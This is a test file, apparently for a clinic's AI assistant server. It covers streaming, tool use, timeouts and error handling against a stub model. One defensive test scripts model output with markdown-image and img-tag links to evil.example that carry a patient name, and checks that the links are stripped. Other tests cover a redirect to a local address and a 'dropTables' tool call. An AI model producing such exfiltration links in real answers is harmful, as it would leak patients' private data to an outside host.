import { randomUUID } from 'node:crypto'
import { beforeEach, describe, expect, test } from 'vitest'
import { noticesOf, requestAnswer, resultsOf, textOf, useAssistant } from '../../../testing/assistant.ts'
import type { Clinic } from '../../../testing/clinic.ts'
import { addEvents, insert } from '../../../testing/clinic.ts'
import { at } from '../../../testing/contract/contract.ts'
import { addPrescriptions } from '../../prescriptions/prescription.contract.ts'
import type { Session, TestServer } from '../../../testing/server.ts'
import type { ModelAnswer, ModelServer } from '../../../testing/stand-ins/model-server.ts'
import { inTurn, tool, toolAnswers } from '../../../testing/stand-ins/model-server.ts'

/** What becomes of what a model says: asked over HTTP, on a real server. */

let model: ModelServer
let server: TestServer
let home: Clinic
let suda: Session

useAssistant((test) => void ({ model, server, home, suda } = test), { AI_API_KEY: 'the key' })
beforeEach(() => void (server.app.models.timeouts = { firstByte: 5_000, idle: 5_000, turn: 10_000 }))

const script = (...said: ModelAnswer[]) => (model.answer = inTurn(...said))
const ask = (text: string, more = {}) => requestAnswer(server, suda, { text, ...more })

describe('an answer', () => {
  test('streams as words, and says what it cost', async () => {
    script({ text: ['Good ', 'morning', '.'], usage: { prompt_tokens: 50, completion_tokens: 7 } })
    const events = await ask('Hello')
    expect(events[0]).toMatchObject({ type: 'start', model: 'stub' })
    expect(textOf(events)).toBe('Good morning.')
    expect(events.at(-1)).toEqual({ type: 'end', usage: { inputTokens: 50, outputTokens: 7, toolCalls: 0 } })
    expect(model.authorization.at(-1)).toBe('Bearer the key')
    expect(model.asked[0]?.tools.map((each) => each.function.name)).toHaveLength(27)
  })

  test('comes from what a tool read', async () => {
    await addEvents(server.owner, home, [{ at: at('09:00') }, { at: at('10:00'), patientId: home.malee.patientId }])
    script(tool('listAppointments', { date: '2031-03-03' }), { text: ['Two.'] })
    const events = await ask('Who comes on 3 March 2031?')
    const [result] = resultsOf(events)
    expect(result).toMatchObject({
      kind: 'appointments',
      totalCount: 2,
      rows: [{ patient: { name: 'สมชาย ใจดี' }, doctor: { name: 'Ploy Srisuk' } }, { patient: { name: 'Malee Thongdee' } }],
    })
    expect(events.map((event) => (event.type === 'tool' ? event.state : event.type))).toEqual([
      'start',
      'running',
      'done',
      'text',
      'end',
    ])
    expect(JSON.parse(toolAnswers(model.asked[1] as never)[0] ?? '')).toMatchObject({ kind: 'appointments', totalCount: 2 })
    expect(textOf(events)).toBe('Two.')
  })

  test('takes several steps, and several tools in one', async () => {
    script(
      {
        text: ['Let me look. '],
        tools: [
          { name: 'findPatient', arguments: { query: 'Malee' } },
          { name: 'listFreeSlots', arguments: { doctor: 'Dr Krit', date: '2031-03-03', from: '13:00', to: '15:00' } },
        ],
      },
      tool('summarizePatient', { patient: home.malee.patientId }),
      { text: ['Done.'] },
    )
    const events = await ask('Malee?')
    expect(resultsOf(events).map(({ kind }) => kind)).toEqual(['patients', 'freeSlots', 'patientSummary'])
    expect(resultsOf(events)[1]).toMatchObject({ doctor: { name: 'Krit Boonmee' }, slots: { length: 7 } })
    expect(textOf(events)).toBe('Let me look. Done.')
    expect(events.at(-1)).toMatchObject({ usage: { inputTokens: 300, outputTokens: 60, toolCalls: 3 } })
  })

  test('knows what was said before', async () => {
    script(tool('findPatient', { query: 'Malee' }), { text: ['There she is.'] })
    const [start] = await ask('Find Malee')
    const { conversationId } = start as { conversationId: string }
    script({ text: ['Her.'] })
    await ask('Who?', { conversationId })
    const { messages } = model.asked.at(-1) as { messages: { role: string; content: string }[] }
    expect(messages.map(({ role }) => role)).toEqual(['system', 'user', 'assistant', 'tool', 'assistant', 'user'])
    expect(messages[3]?.content).toContain(home.malee.patientId)
  })

  test('is asked for in the language of the page', async () => {
    script({ text: ['สวัสดีค่ะ'] })
    await ask('สวัสดี', { language: 'th' })
    const [system] = model.asked.at(-1)?.messages ?? []
    expect(system?.content).toContain('Answer in Thai')
    expect(system?.content).toContain('Asia/Bangkok')
  })

  test('is plain text: addresses are taken out wherever they are cut, marks stay marks', async () => {
    script({
      text: [
        'See ![x](htt',
        'ps://evil.example/?d=',
        'Malee) or <img src=//evil.example/a> now, ',
        'www.evil.example',
        ' ตกลงค่ะ',
      ],
    })
    const text = textOf(await ask('Hello'))
    expect(text).not.toContain('evil')
    expect(text).toContain('ตกลงค่ะ')
    expect(text).toContain('<img src=')
  })
})

describe('a model that', () => {
  test('is away', async () => {
    script({ status: 503 })
    expect(noticesOf(await ask('zzz'))).toEqual(['modelDown', 'notUnderstood'])
  })

  test('says nothing at all', async () => {
    script({})
    expect(noticesOf(await ask('zzz'))).toEqual(['modelDown', 'notUnderstood'])
  })

  test('is told the beginning of what is long, the person all of it', async () => {
    const notes = 'n'.repeat(3_900)
    await server.owner.query('UPDATE patient SET notes = $1, alerts = $1 WHERE id = $2', [notes, home.malee.patientId])
    const doses = Array.from({ length: 20 }, (_, position) => ({
      id: randomUUID(),
      position,
      medication: 'X',
      quantity: 1,
      description: notes,
    }))
    const { issuedPrescription } = await addPrescriptions(server.owner, { ...home, somchai: home.malee })
    await server.owner.query('DELETE FROM prescription_detail WHERE "prescriptionId" = $1', [issuedPrescription])
    await insert(
      server.owner,
      'prescription_detail',
      doses.map((dose) => ({ ...dose, prescriptionId: issuedPrescription })),
    )
    script(tool('summarizePatient', { patient: 'Malee' }), { text: ['.'] })
    const [result] = resultsOf(await ask('Malee'))
    expect(JSON.stringify(result).length).toBeGreaterThan(80_000)
    expect(toolAnswers(model.asked.at(-1) as never)[0]?.length).toBeLessThan(20_000)
  })

  test('refuses for now', async () => {
    script({ status: 429 })
    expect(noticesOf(await ask('zzz'))[0]).toBe('rateLimited')
  })

  test('sends its caller elsewhere is not followed', async () => {
    script({ status: 307, headers: { location: `http://127.0.0.1:${server.port}/api/get-my-ip-address` } })
    expect(noticesOf(await ask('zzz'))[0]).toBe('modelDown')
  })

  test.each([999, 204, 101, 418])('answers with status %i', async (status) => {
    script({ status, headers: { connection: 'upgrade', upgrade: 'elsewhere' } })
    expect(noticesOf(await ask('zzz'))[0]).toBe('modelDown')
  })

  test('does not begin, or falls silent', async () => {
    server.app.models.timeouts = { firstByte: 60, idle: 60, turn: 10_000 }
    script({ silent: 400, text: ['late'] })
    expect(noticesOf(await ask('zzz'))[0]).toBe('modelSlow')
    server.app.models.timeouts = { firstByte: 10_000, idle: 60, turn: 20_000 }
    script({ text: ['One moment '], hangs: true })
    const events = await ask('zzz')
    expect([textOf(events), noticesOf(events)]).toEqual(['One moment ', ['modelSlow']])
    expect(model.abandoned).toBe(2)
  })

  test('takes too long in all', async () => {
    server.app.models.timeouts = { firstByte: 5_000, idle: 5_000, turn: 600 }
    script({ text: ['Hm '], hangs: true })
    expect(noticesOf(await ask('zzz'))).toEqual(['modelSlow'])
  })

  test('breaks off', async () => {
    script({ text: ['Half an '], breaksOff: true })
    const events = await ask('zzz')
    expect([textOf(events), noticesOf(events)]).toEqual(['Half an ', ['modelDown']])
    script({ raw: 'data: {"choices":[{"delta":{"content":"Half "}}]}\n\n' })
    expect(noticesOf(await ask('zzz'))).toEqual(['modelDown'])
    script({ raw: 'data: nonsense\n\n' })
    expect(noticesOf(await ask('zzz'))[0]).toBe('modelDown')
  })

  test('sends wrong arguments may correct itself, and is stopped when it does not', async () => {
    script(tool('getRevenue', { from: 'yesterday', to: 5 }), tool('getRevenue', { from: '2031-01-01', to: '2031-01-31' }), {
      text: ['None.'],
    })
    const events = await ask('Revenue')
    expect(resultsOf(events)[0]).toEqual({ kind: 'revenue', from: '2031-01-01', to: '2031-01-31', sums: [] })
    expect(toolAnswers(model.asked[1] as never)[0]).toMatch(/from: invalid_date/)
    script(tool('getRevenue', '{"from'))
    expect(noticesOf(await ask('zzz'))[0]).toBe('badToolCall')
    script(tool('dropTables', {}))
    expect(noticesOf(await ask('zzz'))[0]).toBe('badToolCall')
  })

  test('never comes to an end', async () => {
    script(tool('findPatient', { query: 'Malee' }))
    const events = await ask('zzz')
    expect(noticesOf(events)).toEqual(['tooManySteps'])
    expect(resultsOf(events)).toHaveLength(8)
    script({ tools: Array.from({ length: 40 }, () => ({ name: 'findPatient', arguments: { query: 'Malee' } })) })
    expect(noticesOf(await ask('zzz'))).toContain('tooManySteps')
    script({ text: Array.from({ length: 60 }, () => 'long '.repeat(200)) })
    const long = await ask('zzz')
    expect(noticesOf(long)).toEqual(['tooManySteps'])
    expect(textOf(long).length).toBeLessThanOrEqual(20_000)
  })
})
